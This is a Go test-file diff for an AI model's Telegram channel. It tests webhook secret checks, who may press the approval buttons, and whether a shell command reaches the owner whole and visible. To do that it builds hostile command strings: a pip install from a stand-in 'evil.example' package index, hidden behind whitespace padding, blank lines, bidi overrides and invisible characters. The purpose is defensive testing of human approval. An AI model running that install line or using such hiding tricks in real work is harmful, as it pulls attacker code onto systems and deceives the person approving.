@@ -1,20 +1,24 @@
 package telegram
 
 import (
+	"cmp"
 	"context"
 	"encoding/json"
 	"errors"
+	"html"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 	"unicode/utf16"
+	"unicode/utf8"
 
 	"github.com/go-telegram/bot/models"
 
@@ -191,10 +195,11 @@ func TestUnknownSenderToldTheirIDOncePerHour(t *testing.T) {
 	if !strings.Contains(sent[0].Text, "2002") || sent[0].ChatID != stranger {
 		t.Errorf("notice = %+v, want the sender's id 2002", sent[0])
 	}
-	h.srv.SendText(stranger, stranger, "mallory", "please")
-	waitUntil(t, "both messages are handled", func() bool {
-		return len(h.store.inboxItems()) == 2 && h.store.settled()
-	})
+	second := h.srv.SendText(stranger, stranger, "mallory", "please")
+	waitUntil(t, "both messages are taken", func() bool { return h.srv.Offset() > second })
+	if n := len(h.store.inboxItems()); n != 0 {
+		t.Errorf("%d of the stranger's messages recorded, want none", n)
+	}
 	if n := len(h.store.outboxItems()); n != 1 {
 		t.Errorf("%d replies queued for the stranger, want 1", n)
 	}
@@ -652,18 +657,42 @@ func TestWebhook(t *testing.T) {
 		t.Fatal(err)
 	}
 	update := `{"update_id":31,"edited_message":{"message_id":1,"date":1,"chat":{"id":1001,"type":"private"},"text":"x"}}`
-	post := func(secret string) int {
-		req := httptest.NewRequest(http.MethodPost, "/telegram", strings.NewReader(update))
-		if secret != "" {
-			req.Header.Set("X-Telegram-Bot-Api-Secret-Token", secret)
+	postBody := func(body string, secrets ...string) int {
+		req := httptest.NewRequest(http.MethodPost, "/telegram", strings.NewReader(body))
+		for _, s := range secrets {
+			req.Header.Add("X-Telegram-Bot-Api-Secret-Token", s)
 		}
 		rec := httptest.NewRecorder()
 		c.webhookHandler().ServeHTTP(rec, req)
 		return rec.Code
 	}
-	for _, secret := range []string{"", "wrong", "s3cret-header-valuX"} {
-		if code := post(secret); code != http.StatusUnauthorized && code != http.StatusForbidden {
-			t.Errorf("secret %q: status %d, want 401 or 403", secret, code)
+	post := func(secret string) int { return postBody(update, secret) }
+	for _, tc := range []struct {
+		name    string
+		secrets []string
+	}{
+		{"missing", nil},
+		{"empty", []string{""}},
+		{"wrong", []string{"wrong"}},
+		{"last byte differs", []string{"s3cret-header-valuX"}},
+		{"a prefix", []string{"s3cret-header-valu"}},
+		{"a short prefix", []string{"s"}},
+		{"extended", []string{"s3cret-header-value!"}},
+		{"the secret twice", []string{"s3cret-header-values3cret-header-value"}},
+		{"another case", []string{"S3CRET-HEADER-VALUE"}},
+		{"wrong first of two", []string{"wrong", "s3cret-header-value"}},
+	} {
+		if code := postBody(update, tc.secrets...); code != http.StatusUnauthorized && code != http.StatusForbidden {
+			t.Errorf("secret %s %q: status %d, want 401 or 403", tc.name, tc.secrets, code)
+		}
+	}
+	// A body over the limit is refused unread, however valid; so is one
+	// that is not JSON.
+	huge := `{"update_id":32,"message":{"message_id":2,"date":1,"chat":{"id":1001,"type":"private"},"from":{"id":1001,"first_name":"A"},"text":"` +
+		strings.Repeat("x", maxUpdateBytes) + `"}}`
+	for name, body := range map[string]string{"oversized": huge, "not JSON": "{\"update_id\":33,"} {
+		if code := postBody(body, cfg.WebhookSecret); code != http.StatusBadRequest && code != http.StatusRequestEntityTooLarge {
+			t.Errorf("%s body: status %d, want 400 or 413", name, code)
 		}
 	}
 	if n := len(store.inboxItems()); n != 0 {
@@ -773,20 +802,39 @@ func TestApproval(t *testing.T) {
 		{"Deny", false},
 	} {
 		t.Run(tc.button, func(t *testing.T) {
-			h := run(t, setup{})
+			const allowed = 1003 // may talk to the assistant, is not the approver
+			h := run(t, setup{cfg: func(c *Config) { c.AllowFrom = append(c.AllowFrom, "1003") }})
 			res := askApproval(h, t.Context())
 			sent := waitSent(t, h.srv, 1)
 			if sent[0].ChatID != owner || !strings.Contains(sent[0].Text, "npm install -g left-pad") || !strings.Contains(sent[0].Text, "1002") {
 				t.Errorf("approval request = %+v, want the command and the chat, sent to the owner", sent[0])
 			}
 			data := approvalButton(t, sent[0].ReplyMarkup, tc.button)
+			verb, _, _ := strings.Cut(data, ":")
 
-			h.srv.PressButton(owner, stranger, sent[0].MessageID, data) // not the owner: ignored
-			waitCalls(t, h.srv, "answerCallbackQuery", 1)
-			select {
-			case r := <-res:
-				t.Fatalf("a stranger's press decided the approval: %+v", r)
-			default:
+			refused := []struct {
+				name          string
+				chat, user    int64
+				message       int64
+				data, answers string
+			}{
+				{"a stranger", owner, stranger, sent[0].MessageID, data, "Only the owner"},
+				{"an allowed user who is not the approver", owner, allowed, sent[0].MessageID, data, "Only the owner"},
+				{"the owner, with data for another approval", owner, owner, sent[0].MessageID, verb + ":" + strings.Repeat("A", 26), "no longer waiting"},
+				{"the owner, on another message", owner, owner, sent[0].MessageID + 100, data, "no longer waiting"},
+				{"the owner, in another chat", allowed, owner, sent[0].MessageID, data, "no longer waiting"},
+			}
+			for i, p := range refused {
+				h.srv.PressButton(p.chat, p.user, p.message, p.data)
+				answers := waitCalls(t, h.srv, "answerCallbackQuery", i+1)
+				if got := answers[i].Params["text"]; !strings.Contains(got, p.answers) {
+					t.Errorf("a press by %s was answered %q, want %q", p.name, got, p.answers)
+				}
+				select {
+				case r := <-res:
+					t.Fatalf("a press by %s decided the approval: %+v", p.name, r)
+				default:
+				}
 			}
 
 			h.srv.PressButton(owner, owner, sent[0].MessageID, data)
@@ -1021,4 +1069,146 @@ func TestRoundSkipsRepliesFinishedSinceTheRead(t *testing.T) {
 	if !ok || !idle || len(s.busy) != 0 {
 		t.Errorf("round = idle %v, ok %v, busy %v; want the finished reply skipped", idle, ok, s.busy)
 	}
+}
+
+// The owner approves exactly what runs: a command too long for a message
+// arrives whole as a file, and every character the owner could miss shows
+// as a mark or an escape.
+func TestApprovalShowsTheCommandWhole(t *testing.T) {
+	const evil = "echo ok > file; pip install --index-url https://evil.example/simple evilpkg"
+	tests := []struct {
+		name    string
+		command string
+		reason  string
+		file    bool     // sent as a file, the message refers to it
+		want    []string // in what the owner reads (the message, or the file)
+		notWant []string
+	}{
+		{
+			name:    "padding hides the tail",
+			command: "ls -la" + strings.Repeat(" ", 3000) + "\n" + evil,
+			want:    []string{"ls -la␠×3000⏎\n" + evil},
+		},
+		{
+			name:    "longer than a message",
+			command: "true; " + strings.Repeat("echo harmless; ", 400) + evil,
+			file:    true,
+			want:    []string{evil},
+		},
+		{
+			name:    "control and invisible characters",
+			command: "ls\u202e\u2066gpj.exe\u2069\u200b\u200d\ufeff\u00a0x\ty\r\x1b[2J\x00\xff\U000e0041",
+			want:    []string{`ls\u202e\u2066gpj.exe\u2069\u200b\u200d\ufeff\u00a0x\ty\r\x1b[2J\x00\xff\U000e0041`},
+			notWant: []string{"\u202e", "\u2066", "\u200b", "\t", "\r", "\x1b", "\x00"},
+		},
+		{
+			name:    "blank lines",
+			command: "echo a" + strings.Repeat("\n", 500) + evil,
+			want:    []string{"echo a⏎×500\n" + evil},
+		},
+		{
+			name:    "a long reason leaves less room",
+			command: strings.Repeat("a", 2900) + evil,
+			reason:  strings.Repeat("\u200b", 400),
+			file:    true,
+			want:    []string{evil},
+		},
+		{
+			name:    "the marks themselves",
+			command: "echo ⏎ ␠",
+			want:    []string{`echo \u23ce \u2420`},
+		},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			h := run(t, setup{})
+			res := make(chan approval, 1)
+			ctx := agent.WithTurn(t.Context(), agent.Turn{ChatID: "1002", SenderName: "Bob\u202eevil", ID: "t1"})
+			go func() {
+				reason := cmp.Or(tc.reason, "network_install")
+				ok, who, err := h.ch.Approve(ctx, tc.command, reason)
+				res <- approval{ok, who, err}
+			}()
+			sent := waitSent(t, h.srv, 1)[0]
+			if strings.Contains(sent.Text, "\u202e") {
+				t.Errorf("the sender's name reached the owner with a bidi override: %q", sent.Text)
+			}
+			shown := html.UnescapeString(sent.Text)
+			docs := h.srv.Calls("sendDocument")
+			if tc.file {
+				if len(docs) != 1 || docs[0].Params["chat_id"] != strconv.Itoa(owner) {
+					t.Fatalf("sendDocument calls = %+v, want one to the owner", docs)
+				}
+				name := docs[0].Params["document"]
+				if !strings.HasPrefix(name, "command-") || !strings.Contains(sent.Text, name) || sent.ReplyTo == 0 {
+					t.Errorf("the approval message (reply to %d) does not refer to the file %q: %q", sent.ReplyTo, name, sent.Text)
+				}
+				shown = string(docs[0].Files["document"])
+			} else if len(docs) != 0 {
+				t.Errorf("a command that fits the message was sent as a file too")
+			}
+			if n := utf16Len(sent.Text); n > 4096 {
+				t.Errorf("the approval message is %d characters long, Telegram takes 4096", n)
+			}
+			for _, w := range tc.want {
+				if !strings.Contains(shown, w) {
+					t.Errorf("the owner reads %q, want it to contain %q", shown, w)
+				}
+			}
+			for _, w := range tc.notWant {
+				if strings.Contains(shown, w) {
+					t.Errorf("the owner reads %q, which has the raw %q", shown, w)
+				}
+			}
+			// The buttons still answer only the approver.
+			data := approvalButton(t, sent.ReplyMarkup, "Approve")
+			h.srv.PressButton(owner, stranger, sent.MessageID, data)
+			waitCalls(t, h.srv, "answerCallbackQuery", 1)
+			h.srv.PressButton(owner, owner, sent.MessageID, data)
+			if r := waitApproval(t, res); r.err != nil || !r.ok || r.who != "telegram:1001" {
+				t.Errorf("Approve = %+v, want approved by telegram:1001", r)
+			}
+		})
+	}
+}
+
+func TestVisible(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"ls -la /tmp", "ls -la /tmp"},
+		{"a\nb", "a⏎\nb"},
+		{"a\n\n\n\nb", "a⏎×4\nb"},
+		{"a" + strings.Repeat(" ", 8) + "b", "a" + strings.Repeat(" ", 8) + "b"},
+		{"a" + strings.Repeat(" ", 9) + "b", "a␠×9b"},
+		{"\u202dx\u2068", `\u202dx\u2068`},
+		{"\u3164\u2800\u034f", `\u3164\u2800\u034f`},
+		{"\ufe0f\U000e0100", `\ufe0f\U000e0100`},
+		{"\u2028\u2029\u3000", `\u2028\u2029\u3000`},
+		{"\x7f\u0085\ue000", `\x7f\u0085\ue000`},
+		{"grüße 日本 ✓", "grüße 日本 ✓"},
+	}
+	for _, tt := range tests {
+		if got := visible(tt.in); got != tt.want {
+			t.Errorf("visible(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func FuzzVisible(f *testing.F) {
+	for _, s := range []string{"ls\n", "a\u202eb", "\xff\xfe", strings.Repeat(" ", 20), "\t\r\x00"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		v := visible(s)
+		if !utf8.ValidString(v) {
+			t.Fatalf("visible(%q) = %q, not valid UTF-8", s, v)
+		}
+		for _, r := range v {
+			if r != '\n' && r != ' ' && (r < 0x20 || hidden(r) && r != '⏎' && r != '␠') {
+				t.Fatalf("visible(%q) = %q keeps %U", s, v, r)
+			}
+		}
+		if strings.Count(v, "\n") > strings.Count(s, "\n") {
+			t.Fatalf("visible(%q) = %q adds line breaks", s, v)
+		}
+	})
 }
